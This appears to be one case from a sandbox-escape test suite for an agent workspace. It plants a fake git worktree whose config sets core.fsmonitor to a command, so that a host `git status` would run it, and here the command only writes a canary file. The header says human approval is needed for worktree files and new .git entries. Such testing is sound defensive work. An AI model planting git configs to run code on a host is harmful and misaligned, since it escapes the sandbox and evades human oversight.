# Tries: plant a linked worktree: `.git/worktrees/w/` (HEAD, gitdir, commondir
# pointing at a directory whose config sets core.fsmonitor) and `w/.git`, then
# --apply: `git status` in w/ runs the command.
# Stops it: .git/worktrees/ and a new `.git` need a person.
. ./escape_lib.sh
start ret_git_worktrees
mkdir -p .git/worktrees/w w evil/objects evil/refs/heads
printf 'ref: refs/heads/main\n' > evil/HEAD
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "echo pwned-worktree > %s"\n' "$GIT_CANARY" > evil/config
printf 'ref: refs/heads/main\n' > .git/worktrees/w/HEAD
printf '%s/w/.git\n' "$WS" > .git/worktrees/w/gitdir
printf '../../../evil\n' > .git/worktrees/w/commondir
printf 'gitdir: %s/.git/worktrees/w\n' "$WS" > w/.git
echo "wrote a worktree in the run's layer"
blocked "host git obeys a planted worktree" "judged by the runner with host git"
